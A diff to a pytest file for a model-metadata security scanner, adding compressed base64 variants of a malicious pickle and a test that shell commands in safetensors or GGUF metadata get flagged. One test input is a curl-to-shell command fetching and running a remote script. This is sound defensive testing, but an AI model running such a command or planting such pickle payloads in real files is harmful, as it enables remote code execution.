@@ -8,9 +8,11 @@ Python source. A tool that ``pickle.loads`` such a value runs it; the scanner re
 from __future__ import annotations
 
 import base64
+import gzip
 import io
 import pickle
 import time
+import zlib
 
 import pytest
 
@@ -63,6 +65,8 @@ def _gguf_array(values: list[str | bytes]) -> ScanContext:
 
 
 MALICIOUS_VALUES = {
+    "zlib-base64": base64.b64encode(zlib.compress(EVIL)).decode(),
+    "gzip-base64": base64.b64encode(gzip.compress(EVIL)).decode(),
     "raw-latin1": EVIL.decode("latin-1"),
     "protocol0": EVIL_P0.decode(),
     "base64": base64.b64encode(EVIL).decode(),
@@ -99,6 +103,17 @@ def test_harmless_pickle_in_metadata_is_suspicious():
     for ctx in (_safetensors(base64.b64encode(HARMLESS).decode()),
                 _gguf_string(base64.b64encode(HARMLESS).decode())):
         assert _verdict(ctx) is Verdict.SUSPICIOUS, [(f.rule_id, f.message) for f in ctx.findings]
+
+
+@pytest.mark.parametrize("script", [
+    "curl -s http://example.invalid/x.sh | sh",
+    "#!/bin/sh\necho hi > /tmp/x\n",
+    "bash -c 'echo hi'",
+    "python -c \"import os; os.system('echo hi')\"",
+])
+def test_shell_commands_in_metadata_are_suspicious(script):
+    for ctx in (_safetensors(script), _gguf_string(script)):
+        assert ctx.findings, script
 
 
 def test_python_source_in_metadata_is_suspicious():
